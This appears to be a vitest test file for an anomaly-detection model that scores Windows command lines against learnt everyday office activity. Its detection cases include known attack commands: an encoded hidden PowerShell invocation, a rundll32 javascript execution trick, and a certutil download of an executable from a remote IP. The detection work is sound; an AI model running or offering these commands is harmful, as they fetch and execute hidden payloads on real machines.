import { check, property, string } from 'fast-check';
import { expect, test } from 'vitest';
import { ByteReader, ByteWriter } from '../bytes.ts';
import { pick, seeded, wholeNumber, type Random } from '../random.ts';
import { CommandModel } from './command-model.ts';
import { commandWords } from './command-words.ts';

const name = (random: Random): string =>
  pick(random, ['report', 'invoice', 'budget', 'minutes', 'plan', 'offer']) + wholeNumber(random, 900);

/** What an invented office runs. */
function usual(random: Random): string {
  return pick(random, [
    () =>
      `"C:\\Program Files\\Office\\winword.exe" /n "C:\\Users\\${pick(random, ['alice', 'bob', 'carol'])}\\Documents\\${name(random)}.docx"`,
    () => `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s ${pick(random, ['Schedule', 'wuauserv', 'BITS'])}`,
    () => `powershell.exe -NoProfile -File C:\\Tools\\inventory.ps1 -Site ${wholeNumber(random, 20)}`,
    () => `rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL`,
    () => `git fetch origin ${name(random)}-branch --prune`,
  ])();
}

function learnt(lines = 1500): CommandModel {
  const random = seeded(6);
  const model = new CommandModel({ words: 2 ** 14, characters: 2 ** 13 });
  for (let i = 0; i < lines; i++) model.learn(usual(random));
  return model;
}

test('parts of a command line', () => {
  const texts = (command: string) => commandWords(command).map(({ text }) => text);
  expect(texts('"C:\\Program Files\\x.exe" /c dir >out12.txt&&del A=b,c')).toEqual(
    ['c:', '\\program', 'files', '\\x.exe', '/c', 'dir', '>', 'out0.txt', '&', '&', 'del', 'a', 'b', 'c'],
  ); // prettier-ignore
  expect(texts('  ')).toEqual([]);
});

test.each([
  ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write', 'javascript:'],
  ['certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Windows\\Temp\\a.exe', '-urlcache'],
])('finds %s', (command, part) => {
  const model = learnt();
  const { p, oddest, bits } = model.judge(command);
  expect(p).toBeLessThan(0.002);
  expect(oddest.map(({ from, to }) => command.slice(from, to))).toContain(part);
  expect(oddest.reduce((sum, each) => sum + each.bits, 0)).toBeCloseTo(bits, 9);
});

test('what people do every day is silent, also with numbers that never were', () => {
  const model = learnt();
  const random = seeded(77);
  const ps = Array.from({ length: 400 }, () => model.judge(usual(random)).p);
  expect(ps.filter((p) => p < 0.01).length).toBeLessThan(12);
});

test('what is learnt becomes usual, what is not believed does not', () => {
  const model = learnt();
  const odd = 'wmic process call create calc.exe';
  const before = model.judge(odd).bits;
  for (let i = 0; i < 20; i++) model.learn(odd, 0.001);
  expect(model.judge(odd).bits).toBeGreaterThan(before / 3);
  for (let i = 0; i < 40; i++) model.learn(odd);
  expect(model.judge(odd).bits).toBeLessThan(before / 3);
});

test('whatever the line: nothing throws, no p that is not a number, bounded', () => {
  const model = learnt(50);
  const outcome = check(
    property(string({ unit: 'binary', maxLength: 300 }), (line) => {
      const { p } = model.judge(line);
      model.learn(line);
      return p > 0 && p <= 1;
    }),
  );
  expect(outcome.failed, JSON.stringify(outcome.counterexample)).toBe(false);
  for (const line of ['a'.repeat(1e6), '|'.repeat(1e6), '\\a'.repeat(5e5)]) {
    model.learn(line);
    expect(model.judge(line).p).toBeGreaterThan(0);
  }
  const random = seeded(2);
  for (let i = 0; i < 400; i++) model.learn(Array.from({ length: 20 }, () => random().toString(36)).join(' '));
  expect(model.bytes).toBeLessThan(20 * (2 ** 14 + 2 ** 13) + 20_000);
  expect(model.forgotten).toBeGreaterThan(1000);
});

test('is read as it was written; merged, it knows both', () => {
  const model = learnt(300);
  model.decay(0.9);
  const to = new ByteWriter();
  model.write(to);
  const read = CommandModel.read(new ByteReader(to.finish()), model.sizes);
  const asked = 'powershell.exe -NoProfile -Command whoami';
  expect(read.judge(asked).bits).toBeCloseTo(model.judge(asked).bits, 9);
  expect(() => CommandModel.read(new ByteReader(to.finish().subarray(0, 200)), model.sizes)).toThrow(RangeError);
  const other = new CommandModel(model.sizes);
  for (let i = 0; i < 50; i++) other.learn(asked);
  read.merge(other);
  expect(read.judge(asked).bits).toBeLessThan(model.judge(asked).bits / 2);
});
